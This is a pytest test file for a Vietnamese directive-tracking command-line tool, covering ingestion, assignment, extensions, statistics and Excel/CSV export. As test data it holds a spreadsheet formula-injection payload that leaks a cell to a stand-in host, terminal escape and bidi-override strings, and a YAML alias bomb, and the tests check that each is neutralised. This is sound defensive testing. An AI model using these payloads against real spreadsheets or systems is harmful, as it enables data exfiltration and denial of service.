"""The `dondoc` command: every engine command from the shell, and one-line errors for bad input."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.cli import CLI


def _shell(tmp_path: Path, db_url: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> CLI:
    monkeypatch.setenv("DONDOC_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("DONDOC_DATABASE_URL", db_url)
    for name in ("DONDOC_TELEGRAM_TOKEN", "DONDOC_ENVIRONMENT", "DONDOC_TIMEZONE", "DONDOC_SECRET"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DONDOC_NOW", "2024-04-22T09:00:00+07:00")
    monkeypatch.setenv("COLUMNS", "200")  # tables and lines unwrapped, as on a wide terminal
    return CLI(capsys, monkeypatch)


@pytest.fixture
def cli(tmp_path: Path, db_url: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> CLI:
    """The command on SQLite, and on PostgreSQL when it is configured."""
    return _shell(tmp_path, db_url, capsys, monkeypatch)


@pytest.fixture
def shell(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> CLI:
    """The command on SQLite only, for what does not depend on the database behind it."""
    return _shell(tmp_path, f"sqlite:///{tmp_path / 'dondoc.db'}", capsys, monkeypatch)


def _json(text: str) -> object:
    return json.loads(text)


HEADER = (
    "ỦY BAN NHÂN DÂN\nTỈNH BẮC GIANG\nSố: {number}/TB-UBND\n"
    "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc\n"
    "Bắc Giang, ngày 19 tháng 4 năm 2024\n\nTHÔNG BÁO\n"
    "Kết luận phiên họp UBND tỉnh thường kỳ tháng 4 năm 2024\n\n"
    "Ngày 17/4/2024, UBND tỉnh tổ chức phiên họp thường kỳ tháng 4 năm 2024. UBND tỉnh kết luận như sau:\n"
)


def _notice(path: Path, number: int, item: str) -> Path:
    path.write_text(HEADER.format(number=number) + item + "\n", encoding="utf-8")
    return path


def _setup(cli: CLI) -> dict[str, int]:
    """Agencies from the default directory, plus a draft directive made through the CLI."""
    assert cli("people", "add", "Lê Thị Thu", "--role", "office", "--title", "Chuyên viên").code == 0
    assert cli("people", "add", "Nguyễn Văn Tài", "--role", "leader", "--agency", "STC").code == 0
    assert cli("people", "add", "Phạm Văn Pháp", "--role", "leader", "--agency", "STP").code == 0
    people = {p["name"]: p["id"] for p in _json(cli("people", "list", "--format", "json").out)}  # type: ignore[union-attr]
    return people


def test_agencies_come_from_the_default_directory(cli: CLI) -> None:
    rows = _json(cli("agencies", "list", "--format", "json").out)
    codes = {r["code"] for r in rows}  # type: ignore[union-attr]
    assert {"STC", "STP"} <= codes
    assert set(rows[0]) == {"id", "code", "name", "kind", "aliases", "supervisor_id"}  # type: ignore[index]


def test_import_replaces_and_extends_the_directory(cli: CLI, tmp_path: Path) -> None:
    csv = tmp_path / "agencies.csv"
    csv.write_text("code,name,kind,aliases\nSDL,Sở Du lịch,so,SDL;Du lịch\nSTC,Sở Tài chính tỉnh,so,STC\n",
                   encoding="utf-8")
    result = cli("agencies", "import", str(csv))
    assert result.code == 0 and "1 cơ quan mới, 1 cập nhật" in result.out
    rows = {r["code"]: r for r in _json(cli("agencies", "list", "--format", "json").out)}  # type: ignore[union-attr]
    assert rows["SDL"]["aliases"] == ["SDL", "Du lịch"] and rows["STC"]["name"] == "Sở Tài chính tỉnh"
    csv.write_text("code,name,kind,aliases\nSDL,Sở Du lịch tỉnh,so,\nSTC,Sở Tài chính tỉnh,so,-\n", encoding="utf-8")
    assert cli("agencies", "import", str(csv)).code == 0
    rows = {r["code"]: r for r in _json(cli("agencies", "list", "--format", "json").out)}  # type: ignore[union-attr]
    assert rows["SDL"]["aliases"] == ["SDL", "Du lịch"] and rows["SDL"]["name"] == "Sở Du lịch tỉnh"  # empty: kept
    assert rows["STC"]["aliases"] == []  # '-': cleared
    bad = tmp_path / "bad.yaml"
    bad.write_text("agencies:\n  - name: Thiếu mã\n", encoding="utf-8")
    result = cli("agencies", "import", str(bad))
    assert result.code == 1 and "Mã của cơ quan thứ 1 không được để trống" in result.err


def test_lifecycle_from_the_shell(cli: CLI, tmp_path: Path) -> None:
    people = _setup(cli)
    notice = _notice(tmp_path / "tb.txt", 90,
                     "1. Giao Sở Tài chính chủ trì, phối hợp với Sở Tư pháp hoàn thiện hồ sơ dự thảo Nghị quyết "
                     "quy định mức chi đón tiếp, thăm hỏi, chúc mừng; hoàn thành trước ngày 31/5/2024.")
    result = cli("ingest", str(notice), "--assign", "--as", "Lê Thị Thu")
    assert result.code == 0, result.err
    rows = _json(cli("directives", "list", "--format", "json").out)
    assert len(rows) == 1  # type: ignore[arg-type]
    d = rows[0]  # type: ignore[index]
    assert d["state"] == "assigned" and d["deadline"] == "2024-05-31" and d["lead"] == "Sở Tài chính"
    did = str(d["id"])
    again = cli("ingest", str(notice))
    assert again.code == 1 and "Thông báo này đã được nhập: #1 — số 90/TB-UBND ngày 19/04/2024" in again.err
    assert cli("ack", did, "--as", "Nguyễn Văn Tài").code == 0
    refused = cli("accept", did, "--as", "Nguyễn Văn Tài")
    assert refused.code == 1 and "Lỗi:" in refused.err and "không có quyền “xác nhận hoàn thành”" in refused.err
    assert cli("extend", did, "--as", "Nguyễn Văn Tài", "--to", "2024-06-30", "--reason", "Chờ thẩm định").code == 0
    assert cli("extend", did, "--as", "Lê Thị Thu", "--approve").code == 0
    header = " ".join(cli("directive", "show", did).out.split())
    assert "thời hạn 30/06/2024 (đã gia hạn; hạn ban đầu 31/05/2024 — “hoàn thành trước ngày 31/5/2024”)" in header
    stranger = cli("ack", did, "--as", "Phạm Văn Pháp")  # already in progress, but not theirs: refused, not "no change"
    assert stranger.code == 1 and "không có quyền “xác nhận đã nhận”" in stranger.err
    report = tmp_path / "bao-cao.pdf"
    report.write_bytes(b"%PDF-1.4 bao cao")
    leader = str(people["Nguyễn Văn Tài"])
    assert cli("report", did, "--as", leader, "--text", "Đã trình", "--file", str(report)).code == 0
    assert cli("accept", did, "--as", "Lê Thị Thu").code == 0
    shown = _json(cli("directive", "show", did, "--format", "json").out)[0]  # type: ignore[index]
    assert shown["state"] == "done" and shown["deadline"] == "2024-06-30"
    assert [e["type"] for e in shown["events"]] == [
        "Drafted", "Assigned", "Acknowledged", "ExtensionRequested", "ExtensionGranted", "ReportSubmitted",
        "ReportAccepted"]
    assert shown["events"][5]["payload"]["attachment"]["size"] == len(b"%PDF-1.4 bao cao")
    stats = _json(cli("stats", "--by", "all", "--format", "json").out)[0]  # type: ignore[index]
    assert stats["done_on_time"] == 1 and stats["total"] == 1
    assert cli("check").code == 0


def test_notices_are_listed_shown_and_deleted_and_ids_go_in_batches(cli: CLI, tmp_path: Path) -> None:
    _setup(cli)
    items = ("1. Giao Sở Tài chính rà soát dự toán, hoàn thành trước ngày 25/4/2024.\n"
             "2. Giao Sở Tư pháp thẩm định dự thảo Quyết định, hoàn thành trong tháng 6/2024.\n"
             "3. Các cấp, các ngành rà soát thủ tục hành chính.")
    notice = _notice(tmp_path / "tb.txt", 95, items)
    assert cli("ingest", str(notice)).code == 0
    assert cli("ingest", str(notice), "--force").code == 0  # stored anyway, as a second notice
    listed = _json(cli("notices", "list", "--format", "json").out)
    assert [(n["id"], n["directives"], n["states"]) for n in listed] == [  # type: ignore[union-attr,index]
        (2, 3, {"draft": 3}), (1, 3, {"draft": 3})]
    shown = _json(cli("notices", "show", "1", "--format", "json").out)[0]  # type: ignore[index]
    assert "Giao Sở Tư pháp thẩm định" in shown["text"] and len(shown["directives"]) == 3
    assert {d["notice_id"] for d in shown["directives"]} == {1}
    # One batch is one transaction: the collective-lead draft #3 cannot be assigned, so #1 stays a draft too.
    refused = cli("assign", "1", "3", "--as", "Lê Thị Thu")
    assert refused.code == 1 and "#3" in refused.err and "không thay đổi nhiệm vụ nào" in refused.err
    assert _json(cli("directives", "list", "--state", "assigned", "--format", "json").out) == []
    assert cli("assign", "1", "2", "--as", "Lê Thị Thu").code == 0
    assert cli("cancel", "4", "5", "6", "--as", "Lê Thị Thu", "--reason", "Bản trùng").code == 0
    assert len(_json(cli("directives", "list", "--state", "cancelled", "--format", "json").out)) == 3  # type: ignore[arg-type]
    kept = cli("notices", "delete", "1", "--as", "Lê Thị Thu")
    assert kept.code == 1 and "2 nhiệm vụ đã giao" in kept.err
    assert cli("notices", "delete", "2", "--as", "Lê Thị Thu").code == 1  # cancelled is no longer a draft
    assert cli("ingest", str(_notice(tmp_path / "tb-b.txt", 96, items)), "--as", "Lê Thị Thu").code == 0
    assert cli("notices", "delete", "3", "--as", "Lê Thị Thu").code == 0
    assert [n["id"] for n in _json(cli("notices", "list", "--format", "json").out)] == [2, 1]  # type: ignore[union-attr,index]
    assert cli("notices", "show", "3").code == 1


def test_cancel_and_return(cli: CLI, tmp_path: Path) -> None:
    _setup(cli)
    notice = _notice(tmp_path / "tb2.txt", 91,
                     "1. Giao Sở Tư pháp rà soát 23 Quyết định, báo cáo UBND tỉnh trong tháng 5/2024.")
    assert cli("ingest", str(notice), "--assign", "--as", "Lê Thị Thu").code == 0
    did = str(_json(cli("directives", "list", "--format", "json").out)[0]["id"])  # type: ignore[index]
    assert cli("report", did, "--as", "Phạm Văn Pháp", "--text", "Xong").code == 0
    assert cli("return", did, "--as", "Lê Thị Thu", "--reason", "Bổ sung số liệu").code == 0
    assert _json(cli("directives", "list", "--state", "in_progress", "--format", "json").out)[0]["id"] == int(did)  # type: ignore[index]
    assert cli("cancel", did, "--as", "Lê Thị Thu", "--reason", "Trùng").code == 0
    assert _json(cli("directives", "list", "--state", "cancelled", "--format", "json").out) != []


@pytest.mark.parametrize(
    ("args", "message", "code"),
    [
        (("directive", "show", "999"), "Không có nhiệm vụ #999", 1),
        (("ack", "1", "--as", "Không Có Ai"), "Không có ai tên “Không Có Ai” trong danh bạ", 1),
        (("directives", "list", "--state", "xong"), "Không có trạng thái “xong”; chọn một trong: draft", 1),
        (("directives", "list", "--agency", "Sở Không Tồn Tại"), "Không có cơ quan “Sở Không Tồn Tại”", 1),
        (("directives", "list", "--bucket", "late"), "Không có nhóm “late”", 1),
        (("directives", "list", "--notice", "999"), "Không có thông báo số hiệu #999", 1),
        (("directives", "list", "--format", "xml"), "Không có cách trình bày “xml”", 1),
        (("people", "add", "Ai Đó", "--role", "boss"), "Không có vai trò “boss”", 1),
        (("agencies", "import", "/nonexistent/a.yaml"), "a.yaml: không tìm thấy tệp", 1),
        (("extract", "/nonexistent/tb.txt"), "tb.txt: không có tệp này", 1),
        (("stats", "--by", "foo"), "Không có cách thống kê “foo”", 1),
        (("export", "/nonexistent/dir/x.xlsx"), "thư mục không tồn tại", 1),
        # Usage mistakes: the parser's own errors, in Vietnamese, exit 2.
        (("ack", "1"), "Thiếu tùy chọn --as. Xem: dondoc ack --help", 2),
        (("ack", "1", "--as", "Lê", "--bogus"), "Không có tùy chọn --bogus", 2),
        (("directive", "show", "abc"), "Giá trị của mã số nhiệm vụ không hợp lệ: phải là một số nguyên", 2),
        (("cancell", "1"), "Không có lệnh “cancell”", 2),
    ],
)
def test_bad_input_is_one_line_and_non_zero(shell: CLI, args: tuple[str, ...], message: str, code: int) -> None:
    result = shell(*args)
    assert result.code == code, result.err
    assert message in result.err
    assert "Traceback" not in result.err + result.out and "Lỗi hệ thống" not in result.err
    assert len(result.err.strip().splitlines()) == 1


@pytest.mark.parametrize(
    ("variable", "value", "message"),
    [
        ("DONDOC_DATABASE_URL", "mysql+nothing://x/y", "DONDOC_DATABASE_URL không hợp lệ"),
        ("DONDOC_TIMEZONE", "Mars/Base", "múi giờ “Mars/Base” không tồn tại"),
        ("DONDOC_ENVIRONMENT", "production", "DONDOC_SECRET"),
    ],
)
def test_bad_settings_are_one_line(shell: CLI, monkeypatch: pytest.MonkeyPatch, variable: str, value: str,
                                   message: str) -> None:
    monkeypatch.setenv(variable, value)
    result = shell("stats")
    assert result.code in (1, 2) and message in result.err and len(result.err.strip().splitlines()) == 1
    assert "Lỗi hệ thống" not in result.err and "http" not in result.err  # no pydantic URL either


def test_a_date_that_does_not_exist(shell: CLI) -> None:
    people = _setup(shell)
    result = shell("extend", "1", "--as", str(people["Lê Thị Thu"]), "--to", "2024-02-30")
    assert result.code == 1 and "2024-02-30" in result.err and "Traceback" not in result.err


def test_unreachable_database(shell: CLI, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DONDOC_DATABASE_URL", "postgresql+psycopg://postgres@127.0.0.1:1/nothing")
    result = shell("stats")
    assert result.code == 2 and "Không kết nối được cơ sở dữ liệu" in result.err
    assert len(result.err.strip().splitlines()) == 1


def test_review_settles_a_collective_lead_then_assigns(cli: CLI, tmp_path: Path) -> None:
    _setup(cli)
    notice = _notice(tmp_path / "tb3.txt", 92,
                     "1. Các cấp, các ngành tập trung rà soát thủ tục hành chính, hoàn thành trong tháng 6/2024.")
    assert cli("ingest", str(notice)).code == 0
    drafts = _json(cli("review", "--format", "json").out)
    assert len(drafts) == 1 and drafts[0]["uncertain"]  # type: ignore[arg-type,index]
    did = str(drafts[0]["id"])  # type: ignore[index]
    refused = cli("assign", did, "--as", "Lê Thị Thu")
    assert refused.code == 1 and "chưa có đơn vị hoặc người chủ trì" in refused.err
    result = cli("review", did, "--as", "Lê Thị Thu", "--lead", "STP", "--deadline", "2024-06-28", "--assign")
    assert result.code == 0, result.err
    shown = _json(cli("directive", "show", did, "--format", "json").out)[0]  # type: ignore[index]
    assert shown["state"] == "assigned" and shown["lead"] == "Sở Tư pháp" and shown["deadline"] == "2024-06-28"
    assert [e["type"] for e in shown["events"]] == ["Drafted", "DraftEdited", "Assigned"]
    assert cli("review", "--format", "json").out.strip() == "[]"


def test_sweep_deliver_and_outbox_from_the_shell(cli: CLI, tmp_path: Path) -> None:
    _setup(cli)
    notice = _notice(tmp_path / "tb4.txt", 93,
                     "1. Giao Sở Tài chính rà soát dự toán, hoàn thành trước ngày 25/4/2024.")
    assert cli("ingest", str(notice), "--assign", "--as", "Lê Thị Thu").code == 0
    queued = _json(cli("outbox", "list", "--status", "pending", "--format", "json").out)
    assert {r["kind"] for r in queued} == {"assigned"}  # type: ignore[union-attr]
    delivered = cli("deliver")
    assert delivered.code == 0 and "Nhiệm vụ mới" in delivered.out  # the console notifier printed it
    assert _json(cli("outbox", "list", "--status", "pending", "--format", "json").out) == []
    assert cli("sweep", "--now", "2024-04-26T09:00:00+07:00").code == 0
    later = ("--now", "2024-04-26T09:00:00+07:00")
    shown = _json(cli(*later, "directives", "list", "--format", "json").out)[0]  # type: ignore[index]
    assert shown["state"] == "overdue" and shown["bucket"] == "open_overdue"
    kinds = {r["kind"] for r in _json(cli("outbox", "list", "--format", "json").out)}  # type: ignore[union-attr]
    assert "overdue" in kinds


def test_demo_tells_the_whole_story(shell: CLI, tmp_path: Path) -> None:
    result = shell("demo", "--days", "12", "--data-dir", str(tmp_path / "demo"))
    assert result.code == 0, result.err
    out = result.out
    assert "Nhập thông báo mẫu" in out and "📌 Nhiệm vụ mới" in out  # ingested, assigned, alerted
    for event in ("Giao nhiệm vụ", "Xác nhận đã nhận", "Báo cáo kết quả", "Xác nhận hoàn thành"):
        assert f" {event} (" in out
    assert "Kết quả sau 12 ngày" in out and "Toàn tỉnh:" in out


def test_export_to_excel_and_csv(cli: CLI, tmp_path: Path) -> None:
    import datetime as dt

    from openpyxl import load_workbook

    _setup(cli)
    attack = '=HYPERLINK("http://x.example/?leak="&B2,"Bấm vào đây")'
    notice = _notice(tmp_path / "tb5.txt", 94,
                     "1. Giao Sở Tài chính rà soát dự toán, hoàn thành trước ngày 25/4/2024.\n"
                     "2. Giao Sở Tư pháp thẩm định dự thảo Quyết định, hoàn thành trong tháng 6/2024.")
    assert cli("ingest", str(notice), "--as", "Lê Thị Thu").code == 0
    assert cli("review", "2", "--as", "Lê Thị Thu", "--task", attack, "--coordinators", "@SUM(1+1);+cmd").code == 0
    assert cli("assign", "1", "2", "--as", "Lê Thị Thu").code == 0
    assert cli("sweep", "--now", "2024-04-26T09:00:00+07:00").code == 0
    assert cli("report", "2", "--as", "Phạm Văn Pháp", "--text", "-1+1 đã thẩm định xong").code == 0
    assert cli("return", "2", "--as", "Lê Thị Thu", "--reason", "Thiếu ý kiến Sở Tài chính").code == 0
    book_path = tmp_path / "bao-cao.xlsx"
    result = cli("--now", "2024-04-26T09:00:00+07:00", "export", str(book_path))
    assert result.code == 0 and "2 nhiệm vụ" in result.out
    book = load_workbook(book_path)
    assert book.sheetnames == ["Nhiệm vụ", "Thống kê", "Lịch sử"]
    sheet = book["Nhiệm vụ"]
    rows = list(sheet.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    by_lead = {r[header.index("Chủ trì")]: r for r in body}
    assert by_lead["Sở Tài chính"][header.index("Tình hình thực hiện")] == "Chưa hoàn thành, quá hạn"
    assert by_lead["Sở Tư pháp"][header.index("Tình hình thực hiện")] == "Chưa hoàn thành, trong hạn"
    assert by_lead["Sở Tài chính"][header.index("Thời hạn")] == dt.datetime(2024, 4, 25)  # a real date …
    deadline = sheet.cell(row=2, column=header.index("Thời hạn") + 1)
    assert deadline.is_date and deadline.number_format == "DD/MM/YYYY"  # … shown as the office writes it
    formulas = [c for row in book.worksheets for line in row.iter_rows() for c in line if c.data_type == "f"]
    assert formulas == []  # the attack is text: nothing in the workbook is a formula
    assert by_lead["Sở Tư pháp"][header.index("Nội dung")] == attack
    assert sheet.auto_filter.ref == "A1:O3" and sheet.column_dimensions["D"].width > 20
    stats = list(book["Thống kê"].iter_rows(values_only=True))
    assert stats[-1][:2] == ("Tổng cộng", 2) and book["Thống kê"].auto_filter.ref.endswith(str(len(stats) - 1))
    history = list(book["Lịch sử"].iter_rows(min_row=2, values_only=True))
    assert [h[3] for h in history].count("Giao nhiệm vụ") == 2 and "Quá hạn" in [h[3] for h in history]
    details = {h[3]: h[6] for h in history}
    assert details["Báo cáo kết quả"] == "Nội dung: -1+1 đã thẩm định xong"
    assert details["Trả lại báo cáo"] == "Lý do: Thiếu ý kiến Sở Tài chính"
    assert isinstance(history[0][5], dt.datetime) and history[0][4] == "Lê Thị Thu"
    csv_path = tmp_path / "bao-cao.csv"
    assert cli("export", str(csv_path)).code == 0
    text = csv_path.read_text(encoding="utf-8-sig")
    assert text.splitlines()[0].startswith("ID,Số thông báo,Mục")
    assert "'=HYPERLINK(" in text and "'@SUM(1+1); +cmd" in text and ",25/04/2024," in text
    refused = cli("export", str(tmp_path / "bao-cao.pdf"))
    assert refused.code == 1 and ".xlsx hoặc .csv" in refused.err
    missing = cli("export", "/nonexistent/dir/x.xlsx")
    assert missing.code == 1 and "thư mục không tồn tại" in missing.err


def test_a_typed_deadline_lasts_until_the_end_of_its_day(cli: CLI, tmp_path: Path) -> None:
    """A sweep at 09:00 on the typed day (review, or a granted extension) must not mark it overdue."""
    _setup(cli)
    notice = _notice(tmp_path / "tb6.txt", 97,
                     "1. Giao Sở Tài chính rà soát dự toán.\n2. Giao Sở Tư pháp thẩm định dự thảo Quyết định.")
    assert cli("ingest", str(notice)).code == 0
    assert cli("review", "1", "--as", "Lê Thị Thu", "--deadline", "2024-05-15", "--assign").code == 0
    assert cli("review", "2", "--as", "Lê Thị Thu", "--deadline", "30/04/2024", "--assign").code == 0
    assert cli("extend", "2", "--as", "Lê Thị Thu", "--to", "14/06/2024").code == 0
    for day in ("2024-05-15", "2024-06-14"):
        assert cli("sweep", "--now", f"{day}T09:00:00+07:00").code == 0
    at_nine = _json(cli("--now", "2024-06-14T09:00:00+07:00", "directives", "list", "--format", "json").out)
    assert [(d["id"], d["state"]) for d in at_nine] == [(1, "overdue"), (2, "assigned")]  # type: ignore[union-attr,index]
    shown = _json(cli("directive", "show", "1", "--format", "json").out)[0]  # type: ignore[index]
    overdue = next(e for e in shown["events"] if e["type"] == "DeadlinePassed")
    assert overdue["payload"]["deadline"] == "2024-05-15T16:59:59+00:00"  # 23:59:59 local, not 00:00
    far = cli("extend", "2", "--as", "Lê Thị Thu", "--to", "14/06/2124")
    assert far.code == 1 and "hơn 20 năm" in far.err


def test_assigning_to_an_agency_nobody_receives_warns_and_stats_list_it(cli: CLI, tmp_path: Path) -> None:
    _setup(cli)
    notice = _notice(tmp_path / "tb7.txt", 98, "1. Giao Sở Tài chính rà soát dự toán.\n"
                                               "2. Giao Tỉnh ủy Bắc Giang tổng hợp ý kiến.")
    result = cli("ingest", str(notice), "--assign", "--as", "Lê Thị Thu")
    assert result.code == 0 and "Đã giao 2 nhiệm vụ" in result.out
    assert "⚠ #2: Tỉnh ủy Bắc Giang chưa có ai trong danh bạ nhận thông báo" in " ".join(result.out.split())
    stats = _json(cli("stats", "--format", "json").out)
    assert {r["name"]: r["no_recipient"] for r in stats} == {"Sở Tài chính": 0, "Tỉnh ủy Bắc Giang": 1}  # type: ignore[union-attr,index]
    assert "1 nhiệm vụ đang mở không có ai trong danh bạ nhận thông báo: #2" in " ".join(cli("stats").out.split())


def test_a_second_run_on_the_same_data_dir_refuses(shell: CLI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dondoc.runlock import hold_run_lock

    monkeypatch.delenv("DONDOC_NOW")
    first = hold_run_lock(tmp_path / "data")  # the service already running
    try:
        result = shell("run", "--no-bot")
        assert result.code == 1 and "dondoc run đang chạy trên thư mục dữ liệu" in result.err
        assert f"tiến trình {__import__('os').getpid()}" in result.err
    finally:
        first.close()
    hold_run_lock(tmp_path / "data").close()  # released with its holder


def test_stats_by_leader_count_under_the_supervising_leader(cli: CLI, tmp_path: Path) -> None:
    _setup(cli)
    notice = _notice(tmp_path / "tb8.txt", 99, "1. Giao Sở Tài chính rà soát dự toán.\n"
                                               "2. Giao Sở Tư pháp thẩm định dự thảo Quyết định.\n"
                                               "3. Giao Sở Kế hoạch và Đầu tư tổng hợp danh mục dự án.")
    assert cli("ingest", str(notice), "--assign", "--as", "Lê Thị Thu").code == 0
    rows = {r["name"]: r["total"] for r in _json(cli("stats", "--by", "leader", "--format", "json").out)}  # type: ignore[union-attr,index]
    assert rows == {"Phan Thế Tuấn": 2, "Mai Sơn": 1}  # STC and SKHĐT under one Phó Chủ tịch, STP under the other
    assert "Lãnh đạo phụ trách" in cli("stats", "--by", "leader").out
    assert "Thông báo" in cli("stats", "--by", "notice").out.splitlines()[2]
    bad = cli("stats", "--by", "foo")
    assert bad.code == 1 and "Không có cách thống kê “foo”" in bad.err


def test_names_are_matched_exactly_and_hostile_text_is_shown_inert(cli: CLI, tmp_path: Path) -> None:
    _setup(cli)
    assert cli("people", "add", "Lê_Văn An", "--role", "office").code == 0
    assert cli("people", "add", "Trần 100% Bình", "--role", "office").code == 0
    refused = cli("people", "add", "Kẻ\x1b[2J\u202eLạ", "--role", "office")
    assert refused.code == 1 and "ký tự điều khiển" in refused.err and len(refused.err.strip().splitlines()) == 1
    notice = _notice(tmp_path / "tb9.txt", 100, "1. Giao Sở Tài chính rà soát dự toán.")
    assert cli("ingest", str(notice), "--as", "Lê_Văn An").code == 0  # '_' is a plain letter, not a wildcard
    hostile = "Rà soát \x1b[31mdự toán\u202e [bold]ngay[/bold]"
    assert cli("review", "1", "--as", "trần 100%  bình", "--task", hostile).code == 0
    for shown in (cli("directive", "show", "1").out, cli("directives", "list").out, cli("review").out):
        assert "\x1b" not in shown and "\u202e" not in shown  # inert and visible, never interpreted
        assert "Rà soát \ufffd[31mdự toán\ufffd [bold]ngay[/bold]" in shown  # and not read as markup either
    for pattern in ("%", "Lê%", "L_ Thị Thu"):  # no LIKE: a pattern matches no one, let alone everyone
        result = cli("review", "1", "--as", pattern, "--assign")
        assert result.code == 1 and f"Không có ai tên “{pattern}”" in result.err


def test_directory_files_cannot_blow_up(shell: CLI, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text('a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n'
                    'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nagencies:\n  - {code: SDL, name: Sở Du lịch, aliases: *c}\n',
                    encoding="utf-8")
    result = shell("agencies", "import", str(bomb))
    assert result.code == 1 and "bí danh YAML" in result.err
    many = tmp_path / "many.yaml"
    many.write_text("agencies:\n  - code: SDL\n    name: Sở Du lịch\n    aliases: [" + ", ".join(["x"] * 51) + "]\n",
                    encoding="utf-8")
    assert "51 tên khác, quá 50" in shell("agencies", "import", str(many)).err
    long = tmp_path / "long.csv"
    long.write_text("code,name,kind,aliases\nSDL," + "D" * 300 + ",so,\n", encoding="utf-8")
    assert "quá 200 ký tự" in shell("agencies", "import", str(long)).err
    codes = {r["code"] for r in _json(shell("agencies", "list", "--format", "json").out)}  # type: ignore[union-attr]
    assert "SDL" not in codes  # nothing of a refused file is kept


def test_people_and_agencies_are_edited_and_removed_duplicates_refused(cli: CLI, tmp_path: Path) -> None:
    people = _setup(cli)
    dup = cli("people", "add", "nguyễn  văn tài", "--agency", "STC")
    assert dup.code == 1 and "Đã có Nguyễn Văn Tài" in dup.err  # else `--as "Nguyễn Văn Tài"` would be ambiguous
    assert cli("people", "add", "Nguyễn Văn Tài", "--agency", "STP").code == 0  # a namesake elsewhere is someone else
    assert "là tên của 2 người; hãy dùng mã số" in cli("ack", "1", "--as", "Nguyễn Văn Tài").err
    tai = str(people["Nguyễn Văn Tài"])
    assert cli("people", "edit", tai, "--name", "Nguyễn Văn Tài Em", "--title", "Phó Giám đốc").code == 0
    assert cli("people", "add", "Trần Văn Mặt", "--agency", "UBMTTQ", "--title", "Chủ tịch").code == 0
    notice = _notice(tmp_path / "tb10.txt", 101, "1. Giao Ủy ban Mặt trận Tổ quốc Việt Nam tỉnh tổng hợp ý kiến.")
    assert cli("ingest", str(notice), "--assign", "--as", "Lê Thị Thu").code == 0
    assert cli("people", "remove", "Phạm Văn Pháp").code == 0  # Sở Tư pháp has others to receive its work
    last = cli("people", "remove", "Trần Văn Mặt")  # the only one UBMTTQ's open directive reaches
    assert last.code == 1 and "giao lại cho người khác" in last.err
    shown = {p["name"]: p for p in _json(cli("people", "list", "--format", "json").out)}  # type: ignore[union-attr]
    assert "Phạm Văn Pháp" not in shown and shown["Nguyễn Văn Tài Em"]["title"] == "Phó Giám đốc"
    table = cli("people", "list").out
    assert "Chuyên viên Văn phòng" in table and "chưa liên kết" in table and "False" not in table
    assert cli("agencies", "edit", "STP", "--aliases", "Sở TP;STP", "--name", "Sở Tư pháp tỉnh").code == 0
    clash = cli("agencies", "edit", "STP", "--aliases", "STC")
    assert clash.code == 1 and "đã dùng để gọi Sở Tài chính" in clash.err
    agencies = cli("agencies", "list").out
    assert "Sở TP; STP" in agencies and "['" not in agencies and "Phan Thế Tuấn" in agencies  # supervisor by name
    refused = cli("agencies", "remove", "STP")
    assert refused.code == 1 and "Không thể xóa Sở Tư pháp tỉnh" in refused.err
    assert cli("agencies", "remove", "HDND").code == 0
    assert "Không có cơ quan “HDND”" in cli("directives", "list", "--agency", "HDND").err


def test_tables_speak_vietnamese_and_json_keeps_codes(cli: CLI, tmp_path: Path) -> None:
    _setup(cli)
    notice = _notice(tmp_path / "tb11.txt", 102, "1. Giao Sở Tài chính rà soát dự toán, hoàn thành trước ngày "
                                                 "25/4/2024.\n2. Các cấp, các ngành rà soát thủ tục hành chính.")
    assert cli("ingest", str(notice), "--assign", "--as", "Lê Thị Thu").code == 0
    draft = cli("review", "2")  # no --as needed to look at a draft
    assert draft.code == 0 and "chủ trì tập thể, cần chọn đơn vị" in " ".join(draft.out.split())
    shown = cli("directive", "show", "1").out
    assert "Giao nhiệm vụ" in shown and "Tạo dự thảo" in shown and "22/04/2024 09:00" in shown
    assert "Assigned" not in shown and "+00:00" not in shown and "{" not in shown
    listed = cli("directives", "list").out
    assert "Đã giao" in listed and "25/04/2024" in listed and "Chưa hoàn thành, trong hạn" in listed
    assert "open_in_time" not in listed and "assigned" not in listed
    row = _json(cli("directives", "list", "--format", "json").out)[0]  # type: ignore[index]
    assert (row["state"], row["bucket"], row["deadline"], row["notice_id"], row["notice"]) == (
        "assigned", "open_in_time", "2024-04-25", 1, "102/TB-UBND")
    outbox = cli("outbox", "list").out
    assert "giao nhiệm vụ" in outbox and "chờ gửi" in outbox and "pending" not in outbox
    helped = cli("review", "--help").out
    assert "dd/mm/yyyy hoặc yyyy-mm-dd" in helped and "Cách dùng: dondoc review" in helped
    assert "Tùy chọn" in helped and "Options" not in helped and "Show this message" not in helped


def test_an_unreachable_bot_api_is_one_line(shell: CLI, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DONDOC_TELEGRAM_TOKEN", "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw")
    monkeypatch.setenv("DONDOC_TELEGRAM_API_URL", "http://127.0.0.1:9")  # nothing listens there
    people = _setup(shell)
    result = shell("people", "invite", str(people["Lê Thị Thu"]))
    assert result.code == 1 and "Không kết nối được máy chủ Telegram" in result.err, result.err
    assert len(result.err.strip().splitlines()) == 1 and "AAHdq" not in result.err


def test_long_work_shows_what_it_is_doing_on_a_terminal(shell: CLI, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    _setup(shell)
    notice = _notice(tmp_path / "tb12.txt", 103, "1. Giao Sở Tài chính rà soát dự toán.")
    piped = shell("ingest", str(notice))
    assert piped.code == 0 and piped.err == ""  # piped output stays clean
    monkeypatch.setenv("TTY_COMPATIBLE", "1")  # rich: behave as on a terminal
    exported = shell("export", str(tmp_path / "x.xlsx"))
    assert exported.code == 0 and "Đang xuất x.xlsx" in exported.err  # which steps show depends on speed
